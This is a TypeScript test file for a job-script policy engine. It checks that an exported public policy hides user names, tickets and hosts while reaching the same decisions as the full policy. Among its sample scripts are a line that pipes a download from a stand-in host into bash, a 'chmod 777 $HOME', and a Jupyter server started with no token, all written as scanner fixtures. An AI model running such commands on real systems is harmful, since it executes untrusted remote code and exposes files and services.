// The policy that everybody may read decides the same, and says nothing about people.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createEngine } from '../../src/engine/engine.ts';
import { ruleTable } from '../../src/engine/rules-table.ts';
import type { Layer } from '../../src/policy/layers.ts';
import { leftOut, publicPolicy, publicPolicyText } from '../../src/policy/public.ts';
import { Policy } from '../../src/policy/policy.ts';
import { readConfiguration } from '../../src/policy/read.ts';
import { Document } from '../../src/text/document.ts';

const engine = createEngine();
const ANALYSES = [
  "#!/bin/bash\njupyter lab --ip=0.0.0.0 --ServerApp.token=''\n",
  '#!/bin/bash\npip install numpy\ncurl http://x.example/i.sh | bash\nchmod 777 $HOME\n',
  '#!/bin/bash\necho "unfinished\n',
].map((text) => engine.analyze({ path: '/home/u/job.sh', text, lang: 'sbatch' }));

function layer(text: string): Layer {
  const read = readConfiguration(new Document('policy.yaml', text), {
    ...{ kind: 'site', rules: ruleTable(), today: '2026-11-20' },
  });
  expect(read.problems).toEqual([]);
  return { kind: 'site', config: read.config, folder: '/', origin: (path) => read.origin([...path]) };
}

function verdicts(layers: readonly Layer[]): string[] {
  const policy = new Policy(layers, '/', []);
  const jobs = [{}, { partitions: ['a'] }, { partitions: ['b'], qos: 'q' }, { partitions: ['a', 'b'] }];
  return jobs.flatMap((job) =>
    ANALYSES.map((analysis) => {
      const occasion = { today: '2026-11-20', inline: true };
      const { verdict, findings } = engine.decide(analysis, { policy, job, occasion });
      return `${verdict} ${findings.map(({ rule, action }) => `${rule} ${action}`).join(' ')}`;
    }),
  );
}

const SECRET = `preset: gate
rules: {JV301: warn}
overrides:
  - {users: [svc-ada], rules: {JV101: audit}}
  - {accounts: [lab-turing], partitions: [b], rules: {network: audit}}
  - {partitions: [b], rules: {network: warn}}
exemptions:
  - {rules: [JV101], owner: Grace, ticket: HPC-1, reason: course of Alan, until: 2026-12-31, users: [ada], hosts: [ood1]}
  - {rules: [JV101], owner: Kurt, ticket: HPC-2, reason: other, until: 2026-12-31, accounts: [lab-turing]}
gate:
  help: support@example.org
  log: {folder: /var/log/quiet, users: name}
site: {trusted-registries: [registry.example.org], slurm: '24.05'}
`;

describe('the public policy', () => {
  test('has no names, tickets, reasons, hosts and nothing about the log', () => {
    const text = publicPolicyText([layer(SECRET)]);
    for (const word of ['ada', 'turing', 'Grace', 'Kurt', 'HPC-', 'Alan', 'course', 'ood1', 'quiet'])
      expect(text).not.toContain(word);
    expect(text).toContain('support@example.org');
    expect(text).toContain('registry.example.org');
    expect(text).toMatch(/^# The policy of this site/);
  });

  test('is a policy that says what it leaves out', () => {
    const again = layer(publicPolicyText([layer(SECRET)]));
    const found = leftOut([again], new Policy([again], '/', []).exemptions);
    expect(found.overrides).toBe(2);
    expect(found.exemptions.map(({ entry }) => [entry.rules, entry.until])).toEqual([[['JV101'], '2026-12-31']]);
    expect(verdicts([again])).toEqual(verdicts([layer(SECRET)]));
  });

  test('exported again, it stays the same', () => {
    const once = publicPolicyText([layer(SECRET)]);
    expect(publicPolicyText([layer(once)])).toBe(once);
  });

  test('of nothing is nothing', () => {
    expect(publicPolicy([])).toEqual({});
  });

  const rules = fc.dictionary(
    fc.constantFrom('JV101', 'network', 'supply-chain', 'unpinned-python-packages'),
    fc.constantFrom('off', 'audit', 'warn', 'enforce'),
    { maxKeys: 3 },
  );
  const severity = fc.constantFrom('low', 'medium', 'high', 'critical', 'never');
  const settings = fc.record(
    {
      rules,
      thresholds: fc.record({ enforce: fc.record({ severity }), warn: fc.record({ severity }) }, { requiredKeys: [] }),
      coverage: fc.dictionary(fc.constantFrom('syntax', 'size'), fc.constantFrom('audit', 'warn', 'reject')),
      suppressions: fc.record({ inline: fc.constantFrom('allow', 'forbid') }),
    },
    { requiredKeys: [] },
  );
  const bound = fc
    .tuple(settings, fc.record({ partitions: fc.constant(['a']), qos: fc.constant(['q']) }, { requiredKeys: [] }))
    .map(([own, binding]) => ({ ...own, ...binding }));
  const file = fc
    .tuple(
      settings,
      fc.record(
        {
          preset: fc.constantFrom('gate', 'default', 'pedantic'),
          ruleset: fc.constantFrom('2026.01', '2026.11'),
          overrides: fc.array(bound, { maxLength: 3 }),
          site: fc.constantFrom({ 'node-sharing': true }, { 'trusted-indexes': ['x.example'] }),
        },
        { requiredKeys: [] },
      ),
    )
    .map(([own, more]) => layer(JSON.stringify({ ...own, ...more })));

  test('of any files decides as they do', () => {
    fc.assert(
      fc.property(fc.array(file, { minLength: 1, maxLength: 3 }), (files) => {
        expect(verdicts([layer(publicPolicyText(files))])).toEqual(verdicts(files));
      }),
      { numRuns: 100 },
    );
  }, 60_000);
});
